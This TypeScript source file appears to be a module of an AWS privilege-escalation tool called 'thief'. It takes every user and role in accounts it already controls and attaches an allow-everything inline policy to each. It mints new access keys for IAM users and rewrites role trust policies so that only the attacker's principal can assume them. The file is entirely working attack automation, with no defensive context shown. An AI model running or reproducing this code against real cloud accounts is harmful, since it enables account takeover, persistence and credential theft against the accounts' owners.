import {
  CreateAccessKeyCommand,
  PutRolePolicyCommand,
  PutUserPolicyCommand,
  UpdateAssumeRolePolicyCommand,
} from "@aws-sdk/client-iam";
import { AssumeRoleCommand } from "@aws-sdk/client-sts";
import { type Held, type Keys, keysOf, type Move, type Thief } from "./thief.ts";

/** A user or role in an account of somebody he holds. */
interface Victim {
  readonly arn: string;
  readonly account: string;
  readonly name: string;
  readonly isUser: boolean;
}

const everything = { Version: "2012-10-17", Statement: [{ Effect: "Allow", Action: "*", Resource: "*" }] };

/** Roles under `/aws-reserved/` and `/aws-service-role/` nobody changes but AWS. */
function victimsOf(thief: Thief): readonly Victim[] {
  return [...thief.aws.state.accounts.values()].flatMap(({ id: account, iam }) => {
    if (!thief.held.some((each) => each.account === account)) return [];
    const start = `arn:aws:iam::${account}:`;
    return [
      ...[...iam.users.values()].map(({ name, path }) => ({ name, arn: `${start}user${path}${name}`, isUser: true })),
      ...[...iam.roles.values()].map(({ name, path }) => ({ name, arn: `${start}role${path}${name}`, isUser: false })),
    ]
      .filter(({ arn }) => !arn.includes(":role/aws-"))
      .map((each) => ({ ...each, account }));
  });
}

const giveEverything: Move = {
  name: "give everything",
  play: async (thief) => {
    let isNew = false;
    for (const victim of victimsOf(thief)) {
      for (const by of thief.held.filter(({ account }) => account === victim.account)) {
        if (!tried(thief, `give ${by.arn} ${victim.arn}`)) continue;
        const { iam } = thief.clientsFor(by.keys);
        const text = { PolicyName: "thief", PolicyDocument: JSON.stringify(everything) };
        const done = await thief.call("give everything", `iam:Put…Policy ${victim.arn} as ${by.arn}`, () =>
          victim.isUser
            ? iam.send(new PutUserPolicyCommand({ ...text, UserName: victim.name }))
            : iam.send(new PutRolePolicyCommand({ ...text, RoleName: victim.name })),
        );
        if (done === null) continue;
        for (const other of thief.held) thief.shut.add(`give ${other.arn} ${victim.arn}`);
        reopen(thief, victim.arn);
        isNew = thief.note(`gave everything to ${victim.arn} as ${by.arn}`);
      }
    }
    return isNew;
  },
};

const takeOver: Move = {
  name: "take over a principal",
  play: async (thief) => {
    let isNew = false;
    for (const victim of victimsOf(thief)) {
      for (const by of thief.held.filter(({ account }) => account === victim.account)) {
        if (thief.held.some(({ arn }) => arn === victim.arn) || !tried(thief, `take ${by.arn} ${victim.arn}`)) continue;
        const keys = victim.isUser ? await newKey(thief, victim, by) : await rewritten(thief, victim, by);
        if (keys === null) continue;
        thief.held.push({ arn: victim.arn, account: victim.account, keys });
        isNew = thief.note(`took over ${victim.arn} as ${by.arn}`);
      }
    }
    return isNew;
  },
};

async function newKey(thief: Thief, { arn, name }: Victim, by: Held): Promise<Keys | null> {
  const { iam } = thief.clientsFor(by.keys);
  const made = await thief.call("take over a principal", `iam:CreateAccessKey ${arn} as ${by.arn}`, () =>
    iam.send(new CreateAccessKeyCommand({ UserName: name })),
  );
  const { AccessKeyId, SecretAccessKey } = made?.AccessKey ?? {};
  if (AccessKeyId === undefined || SecretAccessKey === undefined) return null;
  return { accessKeyId: AccessKeyId, secretAccessKey: SecretAccessKey };
}

/** The trust is rewritten to name him alone. */
async function rewritten(thief: Thief, { arn, name }: Victim, by: Held): Promise<Keys | null> {
  const { iam, sts } = thief.clientsFor(by.keys);
  const trust = { Effect: "Allow", Principal: { AWS: by.arn }, Action: "sts:AssumeRole" };
  const PolicyDocument = JSON.stringify({ Version: "2012-10-17", Statement: [trust] });
  const done = await thief.call("take over a principal", `iam:UpdateAssumeRolePolicy ${arn} as ${by.arn}`, () =>
    iam.send(new UpdateAssumeRolePolicyCommand({ RoleName: name, PolicyDocument })),
  );
  if (done === null) return null;
  const answer = await thief.call("take over a principal", `sts:AssumeRole ${arn} as ${by.arn}`, () =>
    sts.send(new AssumeRoleCommand({ RoleArn: arn, RoleSessionName: "thief" })),
  );
  return keysOf(answer?.Credentials);
}

/** False when it was tried before. */
function tried(thief: Thief, door: string): boolean {
  if (thief.shut.has(door)) return false;
  thief.shut.add(door);
  return true;
}

/** Doors that were shut to somebody may be open now that he may do more. */
function reopen(thief: Thief, arn: string): void {
  for (const door of thief.shut) if (door.includes(`${arn} `) && !door.startsWith("give ")) thief.shut.delete(door);
}

/** What whoever may change the principals of an account makes of that. */
export const takeOverMoves: readonly Move[] = [giveEverything, takeOver];
